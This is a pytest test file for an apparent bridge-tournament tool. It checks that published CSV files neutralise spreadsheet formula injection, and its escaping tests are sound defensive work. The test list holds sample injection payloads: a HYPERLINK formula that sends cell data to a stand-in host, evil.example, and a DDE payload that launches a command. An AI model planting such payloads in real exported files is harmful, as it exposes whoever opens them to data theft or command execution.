"""Published CSV files (issue 19): a pair name cannot start a spreadsheet formula."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from bridgekit.cli.main import main
from bridgekit.tournament.csvcells import cell

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1",
]


@pytest.mark.parametrize("value", ATTACKS)
def test_a_formula_cell_is_written_as_text(value: str) -> None:
    safe = cell(value)
    assert safe == "'" + value


@pytest.mark.parametrize("value", ["-150", "-3.50", "+10", "1NS", "Ann Lee - Bob Ray", "3NT-1 N", ""])
def test_numbers_and_plain_text_are_written_as_they_are(value: str) -> None:
    assert cell(value) == value


def test_published_csv_with_a_pair_named_like_a_formula_is_safe(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    event = str(tmp_path / "club")
    assert main(["event", "new", event, "--tables", "3", "--seed", "1"]) == 0
    attack = ATTACKS[0]
    assert main(["event", "enter", event, "--names", "1NS", attack]) == 0
    assert main(["event", "enter", event, "4S=", "N", "--board", "1", "--table", "1"]) == 0
    assert main(["event", "publish", event, "--out", str(tmp_path / "out")]) == 0
    capsys.readouterr()
    with open(tmp_path / "out" / "standings.csv", newline="", encoding="utf-8") as fp:
        rows = list(csv.DictReader(fp))
    names = {row["pair"]: row["names"] for row in rows}
    assert names["1NS"] == "'" + attack  # shown as text by a spreadsheet, never run
    every_cell = [value for row in rows for value in row.values()]
    assert not any(value.startswith(("=", "+", "@")) for value in every_cell)
    for path in (tmp_path / "out").glob("*.csv"):
        for line in path.read_text(encoding="utf-8").splitlines():
            for value in next(csv.reader([line])):
                assert not value.startswith(("=", "+", "@", "\t")), (path.name, value)
                if value.startswith("-"):
                    float(value)  # a negative number, nothing else
